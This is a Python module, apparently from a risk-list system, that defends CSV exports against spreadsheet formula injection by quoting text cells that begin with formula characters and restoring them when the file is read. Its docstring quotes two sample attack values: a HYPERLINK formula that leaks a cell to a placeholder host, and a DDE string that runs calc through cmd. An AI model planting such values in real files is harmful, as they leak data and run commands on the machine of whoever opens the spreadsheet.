"""CSV files for people: a text cell a spreadsheet would run as a formula is written with a leading `'`.

A corporation is data from outside. Names such as `=HYPERLINK("http://x.example/?leak="&B2,"click")` or
`+cmd|' /C calc'!A0`, written verbatim, are run by a spreadsheet that opens the file (OWASP's CSV injection).
The rule, the one place for it (docs/security.md):

- writing: a text cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`, which a
  spreadsheet shows as text and never evaluates; a text cell that already begins with `'` gets one more, so that
- reading: exactly one leading `'` is taken off a text cell, and every original value comes back as it was.

Only text columns (the id, the top reason): numbers (`-0.05`, a rank change of `-3`) stay numbers, and the header
holds the configured column names. `write_polars` is the writer of every CSV the system writes for people
(risklist.csv, served as GET /risklist.csv) is `write_polars`; `read_frame` and `restored` are its readers' half.
The pipeline's own data (finaldata.csv, trainingdata.csv, the database's batches) stays as the sources said it:
see docs/security.md for why.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Mapping
from pathlib import Path
from typing import Any

import pandas as pd
import polars as pl

from drs.core.fileio import atomic_output

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # OWASP's list: what makes a spreadsheet read a cell as a formula
MARK = "'"  # a spreadsheet's "this is text": shown, never evaluated
MARKED = (*FORMULA_STARTS, MARK)


def neutralised(text: str) -> str:
    """`text` as a cell a spreadsheet shows and never runs: `'` before a formula's first character or a `'`."""
    return MARK + text if text.startswith(MARKED) else text


def restored(text: str) -> str:
    """The original of a cell `neutralised` wrote: one leading `'` less."""
    return text[1:] if text.startswith(MARK) else text


def text_columns(frame: pd.DataFrame) -> list[str]:
    """The columns that hold text (object or string dtype), never numbers."""
    return [str(c) for c in frame.columns if pd.api.types.is_object_dtype(frame[c]) or pd.api.types.is_string_dtype(frame[c])]


def _mapped(frame: pd.DataFrame, columns: Iterable[str], how: Any) -> pd.DataFrame:
    changed = {c: frame[c].map(lambda v: how(v) if isinstance(v, str) else v) for c in columns if c in frame.columns}
    return frame.assign(**changed) if changed else frame


def neutralised_polars(frame: pl.DataFrame) -> pl.DataFrame:
    """A polars `frame` with every text cell neutralised, in one vectorised pass per text column (a million ids in
    about 0.1 s); numbers and missing values as they are. The same rule as `neutralised`."""
    starts = "^[" + "".join(re.escape(c) for c in MARKED) + "]"
    text = [name for name, dtype in frame.schema.items() if dtype == pl.String]
    return frame.with_columns(
        pl.when(pl.col(c).str.contains(starts)).then(pl.lit(MARK) + pl.col(c)).otherwise(pl.col(c)).alias(c) for c in text
    )


def write_polars(frame: pl.DataFrame, path: Path) -> None:
    """Write a polars `frame` as CSV for people, atomically: a header, `\\n` line ends, text cells
    neutralised, a missing value an empty cell."""
    with atomic_output(path) as tmp:
        neutralised_polars(frame).write_csv(tmp, line_terminator="\n")


def read_frame(path: Path, dtype: Mapping[str, str] | None = None) -> pd.DataFrame:
    """A CSV `write_polars` wrote, as written: only an empty cell is missing (a corporation "NA" stays a name), and every
    text column (read as text: give the id and reason columns the dtype "str"; dtypes by their pandas names) restored to its original values."""
    frame = pd.read_csv(path, keep_default_na=False, na_values=[""], dtype=dict(dtype or {}))
    return _mapped(frame, text_columns(frame), restored)
